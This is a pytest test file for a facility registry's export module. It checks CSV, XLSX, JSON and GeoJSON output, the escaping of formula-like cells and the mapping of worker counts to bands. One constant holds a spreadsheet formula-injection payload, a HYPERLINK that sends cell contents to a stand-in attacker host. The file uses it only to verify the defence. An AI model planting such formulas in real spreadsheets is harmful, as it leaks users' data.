"""Exports of the registry: every format readable, and safe to open in a spreadsheet program."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from imvo.core.errors import ImvoError
from imvo.core.exports import (
    FacilityExportRow,
    SourceRowExport,
    export_columns,
    export_write,
    spreadsheet_safe,
    workers_band,
)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def facility(**changes: object) -> FacilityExportRow:
    values: dict[str, object] = {
        "facility_id": "BD000001J",
        "name": "Dhaka Knitwear Ltd.",
        "address": "Plot 12, Road 7",
        "city": "Dhaka",
        "province": None,
        "postal_code": "1208",
        "country": "BD",
        "latitude": 23.76,
        "longitude": 90.39,
        "product_types": ("T-shirts", "Polo shirts"),
        "workers_band": "1001-5000",
        "companies": 2,
    }
    values.update(changes)
    return FacilityExportRow(**values)  # type: ignore[arg-type]


def source_row(**changes: object) -> SourceRowExport:
    values: dict[str, object] = {
        "list_id": 1,
        "company": "Zeeman",
        "year": 2018,
        "version": 1,
        "row": 2,
        "outcome": "new",
        "facility_id": "BD000001J",
        "name": "Dhaka Knitwear Ltd.",
        "address": "Plot 12, Road 7",
        "city": None,
        "province": None,
        "postal_code": None,
        "country": "BD",
        "latitude": None,
        "longitude": None,
        "product_types": (),
        "processing_type": None,
        "workers": "1200",
        "parent_company": None,
        "tier": 1,
    }
    values.update(changes)
    return SourceRowExport(**values)  # type: ignore[arg-type]


def written(records: list[FacilityExportRow], fmt: str) -> bytes:
    out = io.BytesIO()
    count = export_write(records, record_type=FacilityExportRow, fmt=fmt, out=out)  # type: ignore[arg-type]
    assert count == len(records)
    return out.getvalue()


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_has_a_header_of_the_columns_and_a_byte_order_mark() -> None:
    data = written([facility()], "csv")
    assert data.startswith("\ufeff".encode())
    (row,) = csv_rows(data)
    assert list(row) == list(export_columns(FacilityExportRow))
    assert row["product_types"] == "T-shirts; Polo shirts"
    assert row["latitude"] == "23.76"
    assert row["province"] == ""


@pytest.mark.parametrize(
    "dangerous", [FORMULA, "+31 20 1234567", "-2+3", "@SUM(A1:A2)", "\tTab", "\rReturn"]
)
def test_csv_cells_a_spreadsheet_would_run_get_an_apostrophe(dangerous: str) -> None:
    (row,) = csv_rows(written([facility(name=dangerous, address=dangerous)], "csv"))
    assert row["name"] == "'" + dangerous
    assert row["address"] == "'" + dangerous


def test_csv_numbers_stay_numbers() -> None:
    (row,) = csv_rows(written([facility(latitude=-33.9, longitude=-70.6, city="-12")], "csv"))
    assert row["latitude"] == "-33.9"
    assert row["city"] == "-12"


@given(st.text())
def test_spreadsheet_safe_text_never_starts_a_formula(text: str) -> None:
    safe = spreadsheet_safe(text)
    assert safe.endswith(text)
    if safe.startswith(("=", "+", "-", "@", "\t", "\r")):
        float(safe)  # only a plain number may


def test_xlsx_stores_formula_like_text_as_text_and_numbers_as_numbers() -> None:
    data = written([facility(name=FORMULA, address="=1+1", city="@cmd")], "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    assert header == list(export_columns(FacilityExportRow))
    cells = {name: sheet.cell(row=2, column=index + 1) for index, name in enumerate(header)}
    for name, text in (("name", FORMULA), ("address", "=1+1"), ("city", "@cmd")):
        assert cells[name].data_type == "s"
        assert cells[name].value == text
    assert cells["latitude"].data_type == "n"
    assert cells["latitude"].value == 23.76
    assert cells["companies"].value == 2
    assert cells["province"].value is None
    assert cells["product_types"].value == "T-shirts; Polo shirts"


def test_xlsx_file_holds_no_formula_at_all() -> None:
    import zipfile

    data = written([facility(name=FORMULA)], "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


def test_json_is_an_array_of_objects_with_lists() -> None:
    records = json.loads(written([facility(), facility(facility_id="CN000001Z")], "json"))
    assert [record["facility_id"] for record in records] == ["BD000001J", "CN000001Z"]
    assert records[0]["product_types"] == ["T-shirts", "Polo shirts"]
    assert records[0]["province"] is None


@pytest.mark.parametrize("fmt", ["json", "geojson"])
def test_empty_exports_are_valid_json(fmt: str) -> None:
    assert json.loads(written([], fmt)) in ([], {"type": "FeatureCollection", "features": []})


def test_geojson_has_points_in_longitude_latitude_order_and_null_geometry_without() -> None:
    collection = json.loads(
        written(
            [facility(), facility(facility_id="CN000001Z", latitude=None, longitude=None)],
            "geojson",
        )
    )
    assert collection["type"] == "FeatureCollection"
    located, unknown = collection["features"]
    assert located["geometry"] == {"type": "Point", "coordinates": [90.39, 23.76]}
    assert located["id"] == "BD000001J"
    assert located["properties"]["companies"] == 2
    assert "latitude" not in located["properties"]
    assert unknown["geometry"] is None


def test_source_rows_export_names_company_list_and_row() -> None:
    out = io.BytesIO()
    export_write([source_row()], record_type=SourceRowExport, fmt="json", out=out)
    (record,) = json.loads(out.getvalue())
    assert (record["company"], record["list_id"], record["row"]) == ("Zeeman", 1, 2)
    assert record["facility_id"] == "BD000001J"


def test_unknown_format_is_refused() -> None:
    with pytest.raises(ImvoError, match="unknown export format"):
        export_write([], record_type=FacilityExportRow, fmt="pdf", out=io.BytesIO())  # type: ignore[arg-type]


def test_export_does_not_close_the_callers_stream() -> None:
    out = io.BytesIO()
    export_write([facility()], record_type=FacilityExportRow, fmt="csv", out=out)
    assert not out.closed
    out.write(b"more")


@pytest.mark.parametrize(
    ("low", "high", "band"),
    [
        (1, 1, "1-100"),
        (100, 100, "1-100"),
        (101, 101, "101-500"),
        (350, 350, "101-500"),
        (500, 1000, "501-1000"),
        (1200, 1200, "1001-5000"),
        (5001, 9000, "5001-10000"),
        (12000, 12000, "more than 10000"),
        (1000, None, "501-1000"),
    ],
)
def test_workers_band(low: int, high: int | None, band: str) -> None:
    assert workers_band(low, high) == band
